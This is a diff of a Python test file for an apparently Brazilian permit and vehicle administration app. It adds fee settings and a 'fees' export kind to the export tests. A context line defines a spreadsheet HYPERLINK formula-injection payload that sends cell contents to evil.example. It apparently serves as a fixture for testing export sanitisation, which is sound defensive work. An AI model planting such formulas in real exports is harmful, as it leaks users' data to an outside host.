@@ -20,7 +20,8 @@ from reports_factory import (  # type: ignore[import-not-found]
 
 from motodesk.exports import kinds as xk
 from motodesk.rules.common import ServiceType
-from motodesk.services import reports
+from motodesk.rules.fees import FeeAct
+from motodesk.services import fees, reports
 from motodesk.services.clock import local_today
 from motodesk.services.context import AppContext
 from motodesk.services.demo import seed_demo
@@ -31,7 +32,7 @@ EVIL = '=HYPERLINK("http://evil.example/x?"&A1,"Clique aqui")'
 SPECS = {"permits": xk.PERMITS, "people": xk.PEOPLE, "vehicles": xk.VEHICLES, "inspections": xk.INSPECTIONS,
          "infractions": xk.INFRACTIONS, "deadlines": xk.DEADLINES, "organisation-members": xk.ORGANISATION_MEMBERS,
          "quota-study": xk.QUOTA_STUDY, "permits-public": xk.PERMITS_TRANSPARENCY,
-         "people-public": xk.PEOPLE_TRANSPARENCY}
+         "people-public": xk.PEOPLE_TRANSPARENCY, "fees": xk.FEES_COLLECTED}
 CPF_ANYWHERE = re.compile(r"\d{3}\.\d{3}\.\d{3}-\d{2}")
 
 
@@ -50,6 +51,8 @@ def register(supervisor: AppContext):  # noqa: ANN201
     notice(supervisor, c.holder, 2, decided=False)
     waiting_list(supervisor, ("Rafael Nunes Barbosa", "Sílvia Helena Prado"))
     organisation_member(supervisor, a.holder)
+    fees.set_fee(supervisor, FeeAct.INSPECTION, "45,90", "Decreto nº 100/2026")  # one guia/DAM paid at the counter
+    fees.record_payment(supervisor, FeeAct.INSPECTION, a.holder.vehicle_id, "DAM-1", today, "45,90")
     return a, b, c
 
 
@@ -219,5 +222,5 @@ def test_every_kind_from_the_demo_register(ctx: AppContext, out_dir: Path) -> No
         ws, values = _read(out)
         if kind != "quota-study":
             assert len(values) - 2 == n, kind
-        assert n > 0 or kind == "organisation-members", kind
+        assert n > 0 or kind in ("organisation-members", "fees"), kind  # the demo charges no fee (defaults: zero)
     assert reports.suggested_name("people", date(2026, 3, 2)) == "pessoas-2026-03-02.xlsx"
